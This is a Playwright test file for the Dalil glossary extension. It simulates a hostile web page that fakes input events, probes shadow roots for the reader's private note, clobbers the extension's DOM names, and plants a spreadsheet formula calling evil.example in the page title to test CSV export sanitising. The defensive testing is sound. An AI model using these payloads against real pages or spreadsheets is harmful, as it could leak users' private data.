/**
 * A hostile page against the release build (dist/chrome), with no action of the reader's
 * beyond reading: it reads the highlight registry, searches every shadow root and the DOM
 * for the reader's note, fakes hover, keys and clicks, clobbers Dalil's names, gives itself
 * a spreadsheet formula for a title and a 4,300-character URL, and embeds six frames of
 * itself. It must learn nothing, change nothing, and the CSV export must hold no formula.
 *
 * The second test runs on the development build, whose tooltip root is open (as tests need
 * it), to show that even a page that can reach the buttons cannot press them.
 */
import type { BrowserContext, Page } from '@playwright/test';
import Papa from 'papaparse';
import {
  expect,
  expectNoNetwork,
  hoverText,
  launchWithExtension,
  RELEASE_DIST,
  serviceWorkerOf,
  test,
} from './extension';
import { downloadOf, openGlossary, storedTerms } from './glossary-helpers';
import { waitForPaint } from './helpers';

const VILLAGE = 'كفرنبل';
const SECRET = 'SECRET-NOTE-7f3a: the reader’s source in Kafr Nabl';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Click")';
const OWN_CONTEXT = { sentence: 'جملة القارئ عن كفرنبل.', url: 'https://reader.example/own', title: 'Mine' };

interface Term {
  key: string;
  ar: string;
  note: string;
  tags: string[];
  status: string;
  contexts: Array<{ sentence: string; url: string; title: string; auto?: boolean }>;
  lastSeen: number;
  timesSeen: number;
}

/** The attacker's script, in the page's own world, in every frame, before the page's scripts. */
function hostileScript({ formula, frames, clobber }: { formula: string; frames: boolean; clobber: boolean }) {
  const w = window as unknown as Record<string, unknown>;
  document.addEventListener('DOMContentLoaded', () => {
    // DOM clobbering: these ids become properties of window in every world.
    const ids = [
      '__dalilReader',
      '__dalilReaderLoaded',
      '__dalilForce',
      '__dalilReaderStart',
      '__dalilSettings',
    ];
    for (const id of clobber ? ids : []) {
      const element = document.createElement(id === '__dalilReaderLoaded' ? 'a' : 'div');
      element.id = id;
      document.body.append(element);
    }
    if (window !== window.top) return;
    document.title = `${formula} ${'x'.repeat(3000)}`;
    for (let i = 0; i < (frames ? 6 : 0); i++) {
      const frame = document.createElement('iframe');
      frame.src = `/demo.html?frame=${i}`;
      frame.style.cssText = 'width: 400px; height: 300px';
      document.body.append(frame);
    }
  });
  const rangeOf = (text: string) => {
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      const at = (node.nodeValue ?? '').indexOf(text);
      if (at < 0) continue;
      const range = document.createRange();
      range.setStart(node, at);
      range.setEnd(node, at + text.length);
      return range;
    }
    throw new Error(`${text} is not on the page`);
  };
  w.__registry = () =>
    Object.fromEntries(
      [...CSS.highlights.entries()]
        .map(([name, highlight]) => [
          name,
          [...highlight].map((range) => `${range.toString()}@${(range as Range).startOffset}`),
        ])
        .sort(([a], [b]) => String(a).localeCompare(String(b))),
    );
  w.__fakeHover = (text: string) => {
    const range = rangeOf(text);
    range.startContainer.parentElement?.scrollIntoView({ block: 'center' });
    const rect = range.getClientRects()[0];
    const init = { clientX: rect.left + rect.width / 2, clientY: rect.top + rect.height / 2, bubbles: true };
    for (let i = 0; i < 5; i++) {
      document.dispatchEvent(new MouseEvent('mousemove', init));
      range.startContainer.parentElement?.dispatchEvent(new MouseEvent('mousemove', init));
    }
  };
  w.__fakeKeys = () => {
    for (const target of [document, document.body, document.activeElement ?? document.body])
      for (const key of [
        { key: 's', code: 'KeyS' },
        { key: 'س', code: 'KeyS' },
        { key: 'ArrowDown', code: 'ArrowDown', altKey: true, shiftKey: true },
      ])
        target.dispatchEvent(new KeyboardEvent('keydown', { ...key, bubbles: true, composed: true }));
  };
  /** Every shadow root the page can reach, searched for `secret`; and every button in them clicked. */
  w.__searchShadows = (secret: string) => {
    let roots = 0;
    let found = false;
    let clicked = 0;
    const walk = (root: Document | ShadowRoot) => {
      for (const element of root.querySelectorAll('*')) {
        const shadow = element.shadowRoot;
        if (!shadow) continue;
        roots++;
        if ((shadow.textContent ?? '').includes(secret)) found = true;
        for (const button of shadow.querySelectorAll('button')) {
          (button as HTMLButtonElement).click();
          clicked++;
        }
        walk(shadow);
      }
    };
    walk(document);
    const host = document.querySelector('dalil-tooltip');
    return {
      roots,
      found: found || document.documentElement.outerHTML.includes(secret),
      clicked,
      host: host !== null,
      hostRootIsNull: host?.shadowRoot === null,
    };
  };
}

type Attack = {
  registry: () => Record<string, string[]>;
  fakeHover: (text: string) => void;
  fakeKeys: () => void;
  searchShadows: (secret: string) => {
    roots: number;
    found: boolean;
    clicked: number;
    host: boolean;
    hostRootIsNull: boolean;
  };
};
const attack = <K extends keyof Attack>(page: Page, name: K, ...args: Parameters<Attack[K]>) =>
  page.evaluate(
    ([fn, rest]) => (window as unknown as Record<string, (...a: unknown[]) => unknown>)[`__${fn}`](...rest),
    [name, args] as const,
  ) as Promise<ReturnType<Attack[K]>>;

const tooltipOpen = (page: Page) =>
  page.evaluate(() => document.querySelector('dalil-tooltip') !== null && CSS.highlights.has('dalil-active'));

/** The registry once painting has settled (blocks near the viewport register as they come). */
async function settledRegistry(page: Page): Promise<Record<string, string[]>> {
  let last = await attack(page, 'registry');
  for (let i = 0; i < 20; i++) {
    await page.waitForTimeout(400);
    const now = await attack(page, 'registry');
    if (JSON.stringify(now) === JSON.stringify(last)) return now;
    last = now;
  }
  return last;
}

/** The village's pack entry id, asked of the background as the add-term form does. */
async function villageId(control: Page): Promise<string> {
  const reply = (await control.evaluate(
    (name) => chrome.runtime.sendMessage({ type: 'lookupName', name }),
    VILLAGE,
  )) as { value: { matches: Array<{ id: string }> } };
  return reply.value.matches[0].id;
}

async function termOf(control: Page, key: string): Promise<Term | undefined> {
  return ((await storedTerms(control)) as unknown as Term[]).find((term) => term.key === key);
}

test.describe('a hostile page against the release build', () => {
  test.describe.configure({ mode: 'serial' });
  let context: BrowserContext;
  let extensionId: string;

  test.beforeAll(async () => {
    context = await launchWithExtension(RELEASE_DIST);
    extensionId = new URL((await serviceWorkerOf(context)).url()).host;
  });
  test.afterAll(async () => {
    await context.close();
    expectNoNetwork(context);
  });

  test('learns nothing, changes nothing, and the CSV holds no live formula', async () => {
    test.setTimeout(90_000);
    const article = await context.newPage();
    await article.addInitScript(hostileScript, { formula: FORMULA, frames: true, clobber: false });
    await article.goto('/demo.html');
    await waitForPaint(article);
    const unsaved = await settledRegistry(article);

    // The reader saves the village with a private note, tags and status.
    const control = await context.newPage();
    await control.goto(`chrome-extension://${extensionId}/add-term.html`);
    const send = (message: unknown) => control.evaluate((m) => chrome.runtime.sendMessage(m), message);
    const entryId = await villageId(control);
    expect(
      await send({
        type: 'saveTerm',
        term: { entryId, ar: VILLAGE, en: 'Kafr Nabl', type: 'place' },
        context: OWN_CONTEXT,
        details: { note: SECRET, tags: ['source'], status: 'known' },
      }),
    ).toMatchObject({ ok: true });
    const saved = (await termOf(control, entryId))!;

    // Reads the highlight registry: the same names and ranges as before the reader saved.
    await article.goto(`/demo.html?q=${'x'.repeat(4300)}`);
    await waitForPaint(article);
    const registry = await settledRegistry(article);
    expect.soft(Object.keys(registry).some((name) => name.includes('saved'))).toBe(false);
    expect.soft(registry).toEqual(unsaved);

    // Fakes a hover: no tooltip opens.
    await attack(article, 'fakeHover', VILLAGE);
    await article.waitForTimeout(1_200);
    expect.soft(await tooltipOpen(article)).toBe(false);

    // The reader's own hover opens it (so Dalil is running, clobbered names or not)...
    await hoverText(article, VILLAGE);
    await expect.poll(() => tooltipOpen(article), { message: 'tooltip open' }).toBe(true);
    await article.waitForTimeout(1_000); // the note arrives from the glossary
    // ...and the page, searching every shadow root and the DOM, finds no note and no button.
    const search = await attack(article, 'searchShadows', SECRET);
    expect.soft(search).toMatchObject({ found: false, clicked: 0, host: true, hostRootIsNull: true });

    // Fakes S (save/unsave) and the next-name shortcut: nothing changes.
    await attack(article, 'fakeKeys');
    await article.waitForTimeout(800);

    // Sightings: the top page's (clipped) title and URL; none from the six frames; the
    // reader's own sentence kept.
    await expect
      .poll(async () => (await termOf(control, entryId))?.contexts.length, {
        message: 'the sighting is recorded',
      })
      .toBeGreaterThanOrEqual(2);
    const after = (await termOf(control, entryId))!;
    expect.soft({ ...after, contexts: [] }).toEqual({
      ...saved,
      contexts: [],
      lastSeen: after.lastSeen,
      timesSeen: after.timesSeen,
    });
    expect
      .soft(after.contexts.map((c) => c.url))
      .toEqual([new URL('/demo.html', article.url()).href, OWN_CONTEXT.url]);
    for (const c of after.contexts) {
      expect.soft(c.title.length).toBeLessThanOrEqual(1000);
      expect.soft(c.url.length).toBeLessThanOrEqual(4000);
    }
    expect.soft(after.contexts[0].title.startsWith(FORMULA)).toBe(true);

    // The CSV export: the page's title is there, as text.
    const glossary = await openGlossary(context, extensionId);
    const csv = await downloadOf(glossary, () =>
      glossary.getByRole('button', { name: 'Export CSV' }).click(),
    );
    const rows = Papa.parse<string[]>(csv.text.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
    for (const cell of rows.flat()) expect.soft(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect.soft(rows[1][rows[0].indexOf('page_title')]).toBe(`'${after.contexts[0].title}`);
  });
});

test('names a page gives its elements (DOM clobbering) do not stop Dalil in the release build', async () => {
  const context = await launchWithExtension(RELEASE_DIST);
  try {
    const article = await context.newPage();
    await article.addInitScript(hostileScript, { formula: FORMULA, frames: false, clobber: true });
    await article.goto('/demo.html');
    await waitForPaint(article);
    expect(await article.evaluate(() => document.getElementById('__dalilReaderLoaded')?.localName)).toBe('a');
    await hoverText(article, VILLAGE);
    await expect.poll(() => tooltipOpen(article), { message: 'tooltip open' }).toBe(true);
  } finally {
    await context.close();
  }
  expectNoNetwork(context);
});

test('even with the tooltip in reach, a page cannot press its buttons; the reader can, and undo', async ({
  page,
  extensionId,
}) => {
  test.setTimeout(90_000);
  const control = await page.context().newPage();
  await control.goto(`chrome-extension://${extensionId}/add-term.html`);
  // The browser is shared with other specs: start from the village not saved.
  const entryId = await villageId(control);
  await control.evaluate((term) => chrome.runtime.sendMessage({ type: 'unsaveTerm', term }), {
    entryId,
    ar: VILLAGE,
  });
  await page.addInitScript(hostileScript, { formula: FORMULA, frames: false, clobber: false });
  await page.goto('/demo.html');
  await waitForPaint(page);
  await hoverText(page, VILLAGE);
  const tooltip = page.getByRole('dialog', { name: new RegExp(VILLAGE) });
  await tooltip.getByRole('button', { name: 'Save' }).click();
  await expect(tooltip.getByRole('button', { name: 'Saved' })).toHaveAttribute('aria-pressed', 'true');
  await expect.poll(() => termOf(control, entryId)).toBeTruthy();
  const before = (await termOf(control, entryId))!;

  // This build's root is open: the page reaches the buttons and clicks them all, and presses S.
  expect((await attack(page, 'searchShadows', SECRET)).clicked).toBeGreaterThan(0);
  await attack(page, 'fakeKeys');
  await page.waitForTimeout(800);
  await expect(tooltip.getByRole('button', { name: 'Saved' })).toHaveAttribute('aria-pressed', 'true');
  expect(await termOf(control, entryId)).toEqual(before);

  // The reader unsaves, and undoes it: the term is back as it was.
  await tooltip.getByRole('button', { name: 'Saved' }).click();
  await expect(tooltip.getByRole('button', { name: 'Save' })).toHaveAttribute('aria-pressed', 'false');
  await expect.poll(() => termOf(control, entryId)).toBeUndefined();
  await tooltip.getByRole('button', { name: 'Undo' }).click();
  await expect(tooltip.getByRole('button', { name: 'Saved' })).toHaveAttribute('aria-pressed', 'true');
  expect(await termOf(control, entryId)).toEqual(before);
  // The browser is shared with other specs: leave the village unsaved, as it was.
  await control.evaluate((term) => chrome.runtime.sendMessage({ type: 'unsaveTerm', term }), {
    entryId,
    ar: VILLAGE,
  });
  await control.close();
});
